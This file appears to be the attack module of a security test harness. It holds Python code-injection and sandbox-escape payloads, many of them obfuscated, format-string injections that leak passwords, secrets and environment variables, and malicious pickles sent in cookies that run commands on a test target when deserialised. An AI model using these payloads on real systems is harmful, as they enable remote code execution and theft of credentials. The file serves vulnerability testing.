"""Words that become code: of /calculate's expression, of a greeting, of what a client keeps."""

import base64
import pickle

from classes.shells import by_query, of_answer, target_payload
from model import AttackClass, Raw, encoded, one_by_one

OPEN = "open('{file}','w')"
READ = "open('{secret}').read()"
# What leads from any value to everything: object's subclasses.
CLASSES_OF = "().__class__.__base__.__subclasses__()"

PYTHON = {
    "a file, opened to be written": OPEN,
    "a secret file, read": READ,
    "a command by __import__": "__import__('os').system('touch {file}')",
    "a command by popen": "__import__('os').popen('expr {a} \\* {b}').read()",
    "a command by subprocess": "__import__('subprocess').getoutput('expr {a} \\* {b}')",
    "importlib": "__import__('importlib').import_module('os').system('touch {file}')",
    "exec": f"exec(\"{OPEN}\")",
    "exec of two lines": f"exec('import os\\n{{}}'.format(\"{OPEN}\"))",
    "eval in eval": f"eval(\"{OPEN}\")", "compile": f"eval(compile(\"{OPEN}\",'x','eval'))",
    "eval of hexadecimal": "eval(bytes.fromhex('{hex}'))",
    "eval of numbers": "eval(''.join(map(chr,[{numbers}])))",
    "eval of base 64": "eval(__import__('base64').b64decode('{base64}'))",
    "eval backwards": "eval('{backwards}'[::-1])",
    "a lambda": f"(lambda: {OPEN})()", "a lambda by default": f"(lambda x={OPEN}: x)()",
    "a comprehension": f"[{OPEN} for _ in [1]]", "a generator": f"next({OPEN} for _ in [1])",
    "a set": f"{{{OPEN}.name}}", "a dictionary": f"{{1: {OPEN}}}", "a tuple": f"(1, {OPEN})",
    "a starred tuple": f"[*[{OPEN}]]", "a walrus": f"(x := {OPEN})",
    "a condition": f"1 if {OPEN} else 2", "and": f"1 and {OPEN}", "or": f"0 or {OPEN}",
    "not": f"not {OPEN}", "a comparison": f"1 == {OPEN}", "a slice": f"[1][{OPEN} and 0:]",
    "an index": f"[1][{OPEN} and 0]", "an f-string": f"f\"{{{OPEN}}}\"",
    "an f-string's width": "f\"{1:{open('{file}','w') and 5}}\"",
    "subclasses": f"[c for c in {CLASSES_OF} if c.__name__=='_wrap_close'][0].__init__.__globals__"
                  "['system']('touch {file}')",
    "builtins by a function's globals":
        f"(lambda: 0).__globals__['__builtins__']['open']('{{file}}','w')"
        f" if 0 else {OPEN}",
    "builtins by a name": "__builtins__['open']('{file}','w') if isinstance(__builtins__, dict) "
                          "else __builtins__.open('{file}','w')",
    "getattr in pieces": "getattr(__import__('o'+'s'),'sys'+'tem')('touch {file}')",
    "vars": "vars(__import__('os'))['system']('touch {file}')",
    "globals": "globals()['os'].system('touch {file}')",
    "a module that is there": "os.system('touch {file}')",
    "another module's": "door.pickle.loads(b\"cposix\\nsystem\\n(S'touch {file}'\\ntR.\")",
    "a password by its name": "PASSWORD", "a password of another module": "door.ADMIN_PASSWORD",
    "a secret by its name": "SECRET", "all names": "globals()", "all names, by dir": "vars(APP.__cl"
                                                                                   "ass__)",
    "the environment": "os.environ", "the frame before": "__import__('sys')._getframe(1).f_locals",
    "the trail": "TRAIL.open().execute('SELECT value FROM secrets').fetchall()",
    "a request": "__import__('socket').create_connection(('127.0.0.1',{port})).send(b'{mark}')",
    "a request by urllib": "__import__('urllib.request').request.urlopen('http://127.0.0.1:{port}"
                           "/{mark}')",
    "full-width letters": "\uff4f\uff50\uff45\uff4e('{file}','w')",
    "mathematical letters": "\U0001d428\U0001d429\U0001d41e\U0001d427('{file}','w')",
    "italics within underscores": "__\U0001d456\U0001d45a\U0001d45d\U0001d45c\U0001d45f\U0001d461__"
                                  "('os').system('touch {file}')",
    "a blank of another kind": f"1,\u3000{OPEN}" if False else f"1,\x0c{OPEN}",
    "a line that goes on": f"1 and \\\n{OPEN}", "a comment": f"{OPEN} # 1 + 1",
    "encoded twice": Raw("open%2528%2527{file}%2527%252C%2527w%2527%2529"),
    "a join of values": "bytes([{numbers}]).decode().join(['','']) and eval(bytes([{numbers}]))",
    "breakpoint's hook": "__import__('os').putenv('x','y') or __import__('os').mknod('{file}')",
    "ctypes": "__import__('ctypes').CDLL(None).system(b'touch {file}')",
    "pathlib": "__import__('pathlib').Path('{file}').touch()",
    "a file by os.open": "__import__('os').open('{file}',65)",
    "a link": "__import__('os').symlink('/','{file}')",
    "a folder": "__import__('os').mkdir('{file}')",
    "a child": "__import__('os').spawnlp(0,'touch','touch','{file}')",
    "a descriptor of the program's": "[open('{file}','w') for _ in __import__('os').listdir("
                                     "'/proc/self/fd')][0]",
}


def hidden(text, target, row):
    """What a payload has of its own aim in other forms."""
    plain = target.scene.fill(OPEN, row)
    for name, value in {"{hex}": plain.encode().hex(),
                        "{backwards}": plain[::-1].replace("'", "\""),
                        "{numbers}": ",".join(map(str, plain.encode())),
                        "{base64}": base64.b64encode(plain.encode()).decode()}.items():
        text = text.replace(name, value)
    return text


def calculate(target, row):
    text = hidden(target_payload(target, row), target, row)
    value = text if isinstance(row.payload, Raw) else encoded(text)
    return of_answer(target, row, target.ask(f"/calculate?expr={value}", timeout=10))


# --- forms: what is put in place of braces --------------------------------------------------------

FORMS = {
    "an attribute": "{app.password}",
    "another one": "{app.secret}",
    "as it is written": "{app.secret!r}",
    "padded": "{app.secret:>40}",
    "by its class": "{app.__class__.secret}",
    "by a function's globals": "{request.client_of.__globals__}",
    "a member of them": "{request.client_of.__globals__[os].environ}",
    "of an imported module": "{request.client_of.__globals__[pages].SECRET}",
    "of one behind that": "{request.client_of.__globals__[pages].door.ADMIN_PASSWORD}",
    "of its trail": "{request.__class__.__init__.__globals__[pages].PASSWORD}",
    "all attributes": "{app.__class__.__dict__}",
    "a dictionary's": "{app.__class__.__dict__[secret]}",
    "two of them": "{app.name} {app.password}",
    "in Greek letters": "\u03b1{app.password}\u03b1",
    "encoded twice": Raw("%257Bapp.password%257D"),
    "full-width braces": "\uff5bapp.password\uff5d",
}


# --- what a client keeps: Python's pickles --------------------------------------------------------

class Calls:
    """Unpickled, it calls."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


PICKLES = {
    "a command by os.system": lambda file, **_: pickle.dumps(Calls(_system(), f"touch {file}")),
    "by hand": lambda file, **_: f"cos\nsystem\n(S'touch {file}'\ntR.".encode(),
    "by hand, as an object": lambda file, **_: f"(S'touch {file}'\nios\nsystem\n.".encode(),
    "by hand, built": lambda file, **_: f"(cos\nsystem\nS'touch {file}'\no.".encode(),
    "eval": lambda file, **_: pickle.dumps(Calls(eval, f"open('{file}','w')")),
    "exec": lambda file, **_: pickle.dumps(Calls(exec, f"open('{file}','w')")),
    "an open file": lambda file, **_: pickle.dumps(Calls(open, str(file), "w")),
    "an old protocol": lambda file, **_: pickle.dumps(Calls(open, str(file), "w"), protocol=0),
    "the third protocol": lambda file, **_: pickle.dumps(Calls(open, str(file), "w"), protocol=3),
    "within a list": lambda file, **_: pickle.dumps([1, {"a": Calls(open, str(file), "w")}]),
    "a request": lambda port, mark, **_: pickle.dumps(Calls(
        eval, f"__import__('socket').create_connection(('127.0.0.1',{port})).send(b'{mark}')")),
    "subprocess": lambda file, **_: f"csubprocess\ncall\n((lS'touch'\naS'{file}'\natR.".encode(),
    "in another cookie": lambda file, **_: pickle.dumps(Calls(open, str(file), "w")),
    "without padding": lambda file, **_: pickle.dumps(Calls(open, str(file), "w")),
}


def _system():
    return __import__("os").system


def keep(target, row):
    """In the cookie that before keeps its state in, on every route; and as a header of its own."""
    data = base64.b64encode(PICKLES[row.payload](
        file=target.scene.file_of(row), port=target.scene.canary.port, mark=row.mark)).decode()
    name = "prefs" if row.payload == "in another cookie" else "state"
    data = data.rstrip("=") if row.payload == "without padding" else data
    for path in ("/audit", "/"):
        target.ask(path, Cookie=f"{name}={data}", X_State=data, timeout=10)
    return target.scene.was_done(row)


CLASSES = [
    AttackClass("code-injection", "Code injection, and ways out of Python", ["code-injection"],
                "no-interpreter", "a file that code made, its computed words, a request, a secret",
                PYTHON, one_by_one(calculate)),
    AttackClass("format-injection", "Forms that are filled in", ["name-as-markup", "errors-tell"],
                "validation", "a secret in the greeting", FORMS, by_query("/", "name")),
    AttackClass("deserialisation", "Objects that a client sends", ["passed-on-changed",
                "code-injection"], "edge",
                "a file that an object made, or its request", {each: each for each in PICKLES},
                one_by_one(keep)),
]
